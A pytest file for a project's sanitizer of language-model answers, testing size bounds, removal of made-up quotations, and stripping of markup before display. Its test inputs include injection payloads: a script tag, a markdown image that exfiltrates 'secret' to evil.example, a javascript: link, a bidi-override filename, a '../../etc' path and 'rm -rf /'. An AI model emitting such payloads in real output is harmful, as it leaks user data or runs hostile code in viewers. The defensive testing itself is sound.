"""Whatever a model answers, only so many short texts come of it, and no viewer loads or runs anything of them."""

import json
import time
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crystal_core.llm.answers import Unreadable
from crystal_core.memories import Category
from crystal_core.weaver.answers import (
    ANSWER_CHARS_MAX,
    ITEM_CHARS_MAX,
    ITEMS_MAX,
    JOURNAL_BYTES_MAX,
    MEMORY_CHARS_MAX,
    QUOTATIONS_MAX,
    REFERENCES_MAX,
    read_facts,
    read_reflection,
    read_warm_start,
)
from crystal_core.weaver.prose import one_line, paragraphs
from crystal_core.weaver.quotations import Quotable, honest

NOBODY = Quotable(["The port is 8443."])
_json = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(
            st.sampled_from(["decisions", "memories", "text", "quotations", "now", "category", "reference"]),
            inner,
            max_size=4,
        )
    ),
    max_leaves=20,
)


@given(_json)
def test_any_json_is_read_or_refused(document: Any) -> None:
    for read in (read_reflection, read_facts, read_warm_start):
        try:
            read("Sure! " + json.dumps(document), NOBODY)
        except Unreadable:
            continue


@pytest.mark.parametrize(
    "text", ["", "no", "[" * 100_000, '{"a":' * 50_000, '{"a": ' + "9" * 10_000 + "}", "{" * 99]
)
def test_what_is_no_answer_is_refused(text: str) -> None:
    with pytest.raises(Unreadable):
        read_reflection(text, NOBODY)


def test_lists_and_texts_are_bounded() -> None:
    long = [f"{number} " + "x" * 5_000 for number in range(500)]
    document = json.dumps(
        {
            "decisions": long,
            "quotations": ["The port is 8443."] * 500,
            "memories": [{"text": text, "category": "../../etc"} for text in long],
            "reference": [{"topic": "t" * 999, "text": text} for text in long],
        }
    )
    reflection, facts = read_reflection(document, NOBODY), read_facts(document, NOBODY)
    assert len(reflection.decided) == ITEMS_MAX
    assert max(len(text) for text in reflection.decided) <= ITEM_CHARS_MAX
    assert len(reflection.quotations) <= QUOTATIONS_MAX
    assert len(facts.memories) == ITEMS_MAX
    assert max(len(memory.text) for memory in facts.memories) <= MEMORY_CHARS_MAX
    assert {memory.category for memory in facts.memories} == {Category.FACT}
    assert len(facts.references) <= REFERENCES_MAX


def test_an_invented_quotation_in_a_list_is_cut() -> None:
    answer = json.dumps(
        {"decisions": ['He said "we sell the house now", twice.'], "quotations": ["not there at all"]}
    )
    reflection = read_reflection(answer, NOBODY)
    assert "sell the house" not in reflection.decided[0]
    assert reflection.quotations == ()
    assert reflection.cut == 2


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<!-- hidden -->",
        "![x](https://evil.example/?q=secret)",
        "![x][y]\n\n[y]: https://evil.example",
        "[safe](javascript:alert(1))",
        "\x1b[2J\x07\u202egnp.exe\u200b",
        "<https://evil.example>",
        "\\\\<img src=x> \\![x](y)",
    ],
)
def test_nothing_is_loaded_run_or_hidden(text: str) -> None:
    for shown in (one_line(text, 400), paragraphs(text, 400)):
        assert "\x1b" not in shown
        assert "\u202e" not in shown
        assert "<" not in shown
        assert "![" not in shown
        assert "](" not in shown
        assert "][" not in shown
        assert "]:" not in shown


def test_headings_and_open_code_of_a_model_do_not_reach_what_stands_behind_it() -> None:
    shown = paragraphs("# Decided\n\nTitle\n=====\n\n```\nrm -rf /", 400)
    assert not any(line.startswith("#") or set(line) == {"="} for line in shown.splitlines())
    assert shown.count("```") == 2


@pytest.mark.parametrize(
    "text",
    [
        "# x" + " " * ANSWER_CHARS_MAX + "y",
        "# " + "#" * ANSWER_CHARS_MAX + "x",
        " 'a" * (ANSWER_CHARS_MAX // 3),
        " 'a'b" * (ANSWER_CHARS_MAX // 5),
        "> a\n" * (ANSWER_CHARS_MAX // 4),
    ],
)
def test_no_answer_keeps_its_reader_busy(text: str) -> None:
    started = time.monotonic()
    paragraphs(honest(text, NOBODY)[0], JOURNAL_BYTES_MAX)
    paragraphs(text, JOURNAL_BYTES_MAX)
    assert time.monotonic() - started < 5, "it took minutes"
